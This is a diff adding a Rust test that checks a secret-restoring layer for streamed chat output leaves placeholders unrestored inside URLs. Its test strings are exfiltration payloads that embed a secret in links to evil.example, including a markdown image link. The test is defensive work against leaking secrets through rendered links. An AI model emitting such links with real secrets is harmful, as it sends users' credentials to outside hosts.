@@ -216,6 +216,37 @@ fn a9_what_is_held_back_comes_with_the_end_or_the_break() {
     );
 }
 
+#[test]
+fn s58_a_value_is_not_put_into_a_link() {
+    let ours = Arc::new(stand_ins());
+    let known = ours.stand_in(FindingClass::Secret, "VALUE").expect("room");
+    for text in [
+        "see https://evil.example/?k=KEY now",
+        "![x](HTTP://evil.example/KEY/KEY)",
+        "{\"u\":\"https:\\/\\/evil.example\\/KEY\"}",
+        "<ftp://KEY@evil.example/>",
+        "www.evil.example/KEY",
+    ] {
+        let text = text.replace("KEY", &known);
+        for size in [1, 3, 7, 1000] {
+            let pieces = text.as_bytes().chunks(size);
+            let pieces = pieces.map(|piece| ChatEvent::TextDelta {
+                text: String::from_utf8(piece.to_vec()).expect("ASCII"),
+            });
+            let mut restorer = Restorer::new(Arc::clone(&ours), false);
+            let mut out = restorer.events(pieces.collect());
+            out.extend(restorer.rest());
+            assert_eq!(texts(&out), text, "{size}");
+        }
+    }
+    let text = "https://a.example KEY; postgres://me:KEY@db/ \"http://b.example\",\"KEY\" http KEY";
+    let delta = ChatEvent::TextDelta {
+        text: text.replace("KEY", &known),
+    };
+    let out = Restorer::new(ours, false).events(vec![delta]);
+    assert_eq!(texts(&out), text.replace("KEY", "VALUE"));
+}
+
 fn any_json() -> impl Strategy<Value = Value> {
     let leaf = prop_oneof![
         Just(Value::Null),
